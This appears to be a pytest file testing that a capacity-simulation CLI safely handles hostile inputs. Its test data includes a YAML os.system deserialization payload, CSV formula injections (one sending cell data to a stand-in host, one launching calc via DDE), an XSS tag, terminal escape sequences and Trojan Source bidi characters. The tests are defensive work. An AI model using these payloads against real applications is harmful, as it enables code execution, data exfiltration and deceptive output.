"""Hostile inputs, round three (issue 13's independent attack): shapes of input the first fixes
were not tested with. docs/robustness.md says what is guaranteed."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from capsim.cli.app import app
from capsim.scenario import validate_file
from capsim.scenario.edit import apply_set_overrides
from capsim.scenario.loader import parse_yaml_text
from capsim.scenario.writer import dump_yaml, render_scenario_yaml

runner = CliRunner()


def invoke(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def otlp_traces(root_service: str, child_service: str, root_name: str, count: int = 30) -> dict:
    """OTLP JSON of `count` traces: a server span of `root_service` calling `child_service`."""

    def span(service: str, span_id: str, parent: str, kind: str, start: int, end: int, name: str):
        return service, {
            "spanId": span_id,
            "parentSpanId": parent,
            "name": name,
            "kind": kind,
            "startTimeUnixNano": str(start),
            "endTimeUnixNano": str(end),
        }

    by_service: dict[str, list[dict]] = {}
    for number in range(count):
        base = 1_700_000_000_000_000_000 + number * 10**9
        ms = 10**6
        for service, record in (
            span(
                root_service,
                "01",
                "",
                "SPAN_KIND_SERVER",
                base,
                base + (10 + number % 3) * ms,
                root_name,
            ),
            span(
                root_service, "02", "01", "SPAN_KIND_CLIENT", base + 2 * ms, base + 6 * ms, "call"
            ),
            span(
                child_service,
                "03",
                "02",
                "SPAN_KIND_SERVER",
                base + 2 * ms,
                base + 6 * ms,
                root_name,
            ),
        ):
            record["traceId"] = f"{number:032x}"
            by_service.setdefault(service, []).append(record)
    return {
        "resourceSpans": [
            {
                "resource": {"attributes": [{"key": "service.name", "value": {"stringValue": s}}]},
                "scopeSpans": [{"scope": {"name": "t"}, "spans": spans}],
            }
            for s, spans in by_service.items()
        ]
    }


#: Service and span names that are YAML syntax, YAML 1.2 numbers, or longer than a YAML key may be.
YAML_HOSTILE_NAMES = [
    ("&anchor", "*anchor", "!!python/object/apply:os.system ['id']"),
    ("1e3", "010", "0x10"),
    ("null", "true", "- x: {a: [b]}"),
    ("a" * 5000, "b" * 300, "c" * 100_000),
    ("api\nevil: 1", "db\r\n#x", "GET /\n- injected"),
    ("\x1b]52;c;aGk=\x07", "\ud800", ":: ::error ::x"),
    ("-leading", "--", "'\""),
]


@pytest.mark.parametrize("names", YAML_HOSTILE_NAMES, ids=lambda n: repr(n[2][:12]))
def test_calibrate_writes_hostile_span_names_as_plain_valid_names(
    tmp_path: Path, names: tuple[str, str, str]
) -> None:
    traces = tmp_path / "traces.json"
    traces.write_text(json.dumps(otlp_traces(*names)))
    scenario = tmp_path / "model.yaml"
    code, _, err = invoke("calibrate", str(traces), "-o", str(scenario))
    assert code == 0, err
    assert validate_file(scenario) == []
    document = parse_yaml_text(scenario.read_text()).data
    for name in [*document["tiers"], *document["traffic"]]:
        assert isinstance(name, str) and len(name) <= 64
    for klass in document["traffic"].values():
        assert isinstance(klass["entry"], str) and klass["entry"] in document["tiers"]


@pytest.mark.parametrize("name", ["a\n::error ::x", "", "   ", "\x1b[2J", "x\ud800"])
def test_calibrate_refuses_a_name_validation_would_refuse_before_writing(
    tmp_path: Path, name: str
) -> None:
    traces = tmp_path / "traces.json"
    traces.write_text(json.dumps(otlp_traces("api", "db", "GET")))
    scenario = tmp_path / "model.yaml"
    scenario.write_text("kept: 1\n")
    code, _, err = invoke("calibrate", str(traces), "--name", name, "-o", str(scenario))
    assert code == 2 and "--name" in err and "\n" not in err.strip()
    assert scenario.read_text() == "kept: 1\n"


def test_a_measurement_file_name_cannot_break_out_of_the_header_comment(tmp_path: Path) -> None:
    traces = tmp_path / "x\n- evil: 1\nname: [.json"
    traces.write_text(json.dumps(otlp_traces("api", "db", "GET")))
    scenario = tmp_path / "model.yaml"
    code, _, err = invoke("calibrate", str(traces), "-o", str(scenario))
    assert code == 0, err
    assert validate_file(scenario) == []
    assert parse_yaml_text(scenario.read_text()).data["name"] == "calibrated"


@pytest.mark.parametrize(
    "text",
    [
        "1e3",
        "1.5e-3",
        ".5",
        "010",
        "0x1f",
        "0b1",
        "1_000",
        "no",
        "on",
        "True",
        "null",
        "~",
        "",
        ".inf",
        ".NaN",
        "12:30",
        "-1",
        "+2",
    ],
)
def test_written_yaml_reads_back_every_text_as_text(text: str) -> None:
    data = {"name": text, "tiers": {text or "x": {"zone": text}}, "tags": [text]}
    assert parse_yaml_text(dump_yaml(data)).data == data
    assert parse_yaml_text(render_scenario_yaml(data)).data == data


def test_set_overrides_rewritten_in_full_keep_numeric_looking_names_as_text() -> None:
    text = 'name: "1e3"\ntags: [a]\n'
    written = apply_set_overrides(text, ["tags=[b, c]"])
    assert parse_yaml_text(written).data == {"name": "1e3", "tags": ["b", "c"]}


SCENARIO = """\
name: {name}
simulation: {{duration: 3s, warmup: 0.5s}}
traffic:
  browse: {{entry: app, rate: 20/s}}
tiers:
  app: {{concurrency: 2, service_time: {{dist: exponential, mean: 5ms}}}}
slos:
  - {{class: browse, p99: 500ms}}
"""

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_from_data_are_never_spreadsheet_formulas(tmp_path: Path, formula: str) -> None:
    scenario = tmp_path / "shop.yaml"
    scenario.write_text(SCENARIO.format(name=json.dumps(formula)))
    code, out, err = invoke("run", str(scenario), "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert ["run", f"'{formula}", "passed", "true"] in rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t")), row
            if cell.startswith("-"):
                float(cell)  # a negative figure, not text


@pytest.mark.parametrize("key", ["arrivals: {trace: adir}", "profile: {file: adir}"])
def test_a_traffic_file_that_is_a_folder_is_named_once(tmp_path: Path, key: str) -> None:
    (tmp_path / "adir").mkdir()
    scenario = tmp_path / "s.yaml"
    scenario.write_text(
        SCENARIO.format(name="s")
        .replace("rate: 20/s", key)
        .replace("slos:\n  - {class: browse, p99: 500ms}\n", "")
    )
    code, _, err = invoke("validate", str(scenario))
    assert code == 2 and "it is a folder" in err and "file file" not in err


def _shop(folder: Path) -> Path:
    scenario = folder / "shop.yaml"
    scenario.write_text(SCENARIO.format(name="shop"))
    return scenario


def _same_file(folder: Path, scenario: Path, how: str) -> str:
    """A path to `scenario` itself: as given, through a symlink, or a hard link."""
    if how == "itself":
        return str(scenario)
    other = folder / f"{how}.yaml"
    if how == "symlink":
        other.symlink_to(scenario.name)
    else:
        other.hardlink_to(scenario)
    return str(other)


@pytest.mark.parametrize("how", ["itself", "symlink", "hard link"])
@pytest.mark.parametrize(
    "command",
    [
        ["run", "{s}", "-o", "{out}"],
        ["solve", "{s}", "-o", "{out}"],
        ["check", "{s}", "--junit", "{out}"],
        ["check", "{s}", "--markdown", "{out}"],
        ["report", "{s}", "-o", "{out}"],
        ["compare", "{s}", "{s}", "-o", "{out}"],
    ],
    ids=lambda c: " ".join(c[:1] + c[-2:-1]),
)
def test_an_output_path_that_is_the_scenario_never_replaces_it(
    tmp_path: Path, command: list[str], how: str
) -> None:
    scenario = _shop(tmp_path)
    before = scenario.read_bytes()
    out = _same_file(tmp_path, scenario, how)
    code, _, err = invoke(*(arg.format(s=scenario, out=out) for arg in command))
    assert code == 2 and "this command reads" in err, err
    assert scenario.read_bytes() == before and not scenario.is_symlink()


def test_calibrate_never_writes_over_a_measurement_file(tmp_path: Path) -> None:
    first, second = tmp_path / "a.json", tmp_path / "b.json"
    for path in (first, second):
        path.write_text(json.dumps(otlp_traces("api", "db", "GET")))
    before = second.read_bytes()
    code, _, err = invoke("calibrate", str(first), str(second), "-o", str(second))
    assert code == 2 and "measurement file this command reads" in err
    assert second.read_bytes() == before


def test_a_baseline_is_not_replaced_by_the_junit_report(tmp_path: Path) -> None:
    scenario = _shop(tmp_path)
    baseline = tmp_path / "base.json"
    code, _, err = invoke("run", str(scenario), "--format", "json", "-o", str(baseline))
    assert code == 0, err
    before = baseline.read_bytes()
    code, _, err = invoke(
        "check", str(scenario), "--baseline", str(baseline), "--junit", str(baseline)
    )
    assert code == 2 and "a capsim result this command reads" in err, err
    assert baseline.read_bytes() == before


def test_size_write_may_rewrite_its_own_scenario(tmp_path: Path) -> None:
    scenario = _shop(tmp_path)
    code, _, err = invoke("size", str(scenario), "--write", str(scenario))
    assert code == 0, err
    assert validate_file(scenario) == []


@pytest.fixture
def self_calling(tmp_path: Path) -> tuple[Path, Path]:
    """Traces of a service that calls itself, and the scenario calibrated from them: one worker
    held while it waits for itself, so the simulation completes no request."""
    traces = tmp_path / "traces.json"
    traces.write_text(json.dumps(otlp_traces("api", "api", "GET")))
    scenario = tmp_path / "model.yaml"
    code, _, err = invoke("calibrate", str(traces), "-o", str(scenario))
    assert code == 0, err
    return scenario, traces


@pytest.mark.parametrize("fmt", ["table", "json", "markdown"])
def test_backtest_of_a_model_that_completes_nothing_fails_its_rows_without_a_crash(
    self_calling: tuple[Path, Path], fmt: str
) -> None:
    scenario, traces = self_calling
    code, out, err = invoke("backtest", str(scenario), str(traces), "--format", fmt)
    assert code == 1, err
    assert "Traceback" not in out + err and "nan" not in out
    if fmt == "json":
        # Every request is still unanswered when the window ends: its latency counts at its
        # age then, a lower bound far above the measured 11 ms, and every class row fails.
        rows = [r for r in json.loads(out)["comparisons"] if r["what"] == "class"]
        assert rows and all(not row["passed"] for row in rows)
        assert all(row["predicted"] is None or row["predicted"] > 1.0 for row in rows)


HOSTILE_FILE_NAMES = [
    "<img src=x onerror=alert(1)> [a](b)",
    "# All good",
    "m\x1b]0;t\x07",
    "[bold red]x",
]


@pytest.mark.parametrize("stem", HOSTILE_FILE_NAMES)
def test_backtest_shows_a_hostile_scenario_file_name_as_text(
    self_calling: tuple[Path, Path], stem: str
) -> None:
    scenario, traces = self_calling
    hostile = scenario.with_name(f"{stem}.yaml")
    hostile.write_bytes(scenario.read_bytes())
    code, markdown, _ = invoke("backtest", str(hostile), str(traces), "--format", "markdown")
    assert code == 1
    assert "<img" not in markdown and "[a](b)" not in markdown and "\x1b" not in markdown
    assert not any(line.startswith("# All") for line in markdown.splitlines())
    code, table, _ = invoke("backtest", str(hostile), str(traces))
    assert "\x1b" not in table and "\x07" not in table
    if stem.startswith("[bold"):
        assert "[bold red]x" in table


@pytest.mark.parametrize("p99", ["nan", "inf", "1e400", "-1"])
def test_fit_usl_refuses_a_percentile_that_is_not_finite_seconds(tmp_path: Path, p99: str) -> None:
    curve = tmp_path / "curve.csv"
    curve.write_text(f"users,throughput,p99\n1,10,0.1\n2,19,{p99}\n4,30,0.2\n8,35,0.3\n")
    code, _, err = invoke("fit-usl", str(curve))
    assert code == 2 and "curve.csv:3: " in err and "finite" in err, err


def test_fit_usl_refuses_more_load_steps_than_it_fits_at_once(tmp_path: Path) -> None:
    curve = tmp_path / "curve.csv"
    rows = "".join(f"{n},{10 * n / (1 + 0.01 * n)}\n" for n in range(1, 10_002))
    curve.write_text("users,throughput\n" + rows)
    code, _, err = invoke("fit-usl", str(curve))
    assert code == 3 and "more than 10,000 load steps" in err, err


def _out_of_memory(*args: object, **kwargs: object) -> None:
    raise MemoryError


@pytest.mark.parametrize(
    ("target", "command"),
    [
        ("capsim.analysis.calibration.calibrate", ["calibrate", "{traces}"]),
        ("capsim.scenario.loader.parse_yaml_text", ["run", "{scenario}"]),
    ],
)
def test_running_out_of_memory_is_a_resource_limit_not_a_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, target: str, command: list[str]
) -> None:
    """A MemoryError past every estimate (a 200 MB OTLP file under a 900 MB ulimit -v) gave a
    traceback and exit 1, the code of a failed check."""
    traces = tmp_path / "traces.json"
    traces.write_text(json.dumps(otlp_traces("api", "db", "GET")))
    scenario = _shop(tmp_path)
    module, name = target.rsplit(".", 1)
    monkeypatch.setattr(module + "." + name, _out_of_memory)
    code, _, err = invoke(*(arg.format(traces=traces, scenario=scenario) for arg in command))
    assert code == 3 and "ran out of memory" in err, err


LOCUST_HEADER = "Type,Name,Request Count,Failure Count,Median Response Time,Average Response Time,Requests/s,50%,95%,99%\n"
MALFORMED_LOAD_TESTS = {
    "k6 count infinite": ("k6.json", '{"metrics":{"http_reqs":{"count":1e400,"rate":5}}}'),
    "k6 rate text": ("k6.json", '{"metrics":{"http_reqs":{"count":10,"rate":"x"}}}'),
    "k6 rate object": ("k6.json", '{"metrics":{"http_reqs":{"count":10,"rate":{}}}}'),
    "k6 latency negative": (
        "k6.json",
        '{"metrics":{"http_reqs":{"count":10,"rate":5},"http_req_duration":{"p(99)":-1}}}',
    ),
    "locust count 1e400": ("l_stats.csv", LOCUST_HEADER + ",Aggregated,1e400,0,1,1,1,1,2,3\n"),
    "locust rate inf": ("l_stats.csv", LOCUST_HEADER + ",Aggregated,10,0,1,1,inf,1,2,3\n"),
    "prometheus time 1e400": (
        "prom.json",
        '{"status":"success","data":{"resultType":"matrix","result":[{"metric":'
        '{"__name__":"http_requests_total","tier":"a"},"values":[[1e400,"1"],[2,"3"]]}]}}',
    ),
}


@pytest.mark.parametrize("command", ["calibrate", "fit-usl"])
@pytest.mark.parametrize("case", list(MALFORMED_LOAD_TESTS))
def test_malformed_figures_in_measurement_files_are_refused_with_the_file(
    tmp_path: Path, case: str, command: str
) -> None:
    name, text = MALFORMED_LOAD_TESTS[case]
    path = tmp_path / name
    path.write_text(text)
    code, _, err = invoke(command, str(path))
    assert code == 2 and name in err, err


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200f", "\u061c", "\u2028", "\u2029"])
def test_bidirectional_controls_and_line_separators_are_refused_in_names(
    tmp_path: Path, char: str
) -> None:
    """'Trojan Source': a name that shows in another order than it is (`shop\\u202egnp.exe`
    shows as `shopexe.png`) passed validation and reached terminals and reports as it was."""
    scenario = tmp_path / "shop.yaml"
    scenario.write_text(SCENARIO.format(name=json.dumps(f"shop{char}gnp.exe")))
    code, _, err = invoke("validate", str(scenario))
    assert code == 2 and f"U+{ord(char):04X} at character 5" in err, err
    assert char not in err and f"\\u{ord(char):04x}" in err
